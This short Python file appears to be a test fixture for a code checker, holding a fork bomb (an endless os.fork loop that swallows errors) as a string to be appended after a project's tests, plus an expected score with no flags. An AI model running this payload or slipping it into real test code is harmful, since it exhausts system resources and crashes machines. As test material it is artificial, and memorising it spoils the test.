"""A fork bomb after the tests."""
APPEND = ["import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"]
EXPECT = {"score": 7, "flags": set()}
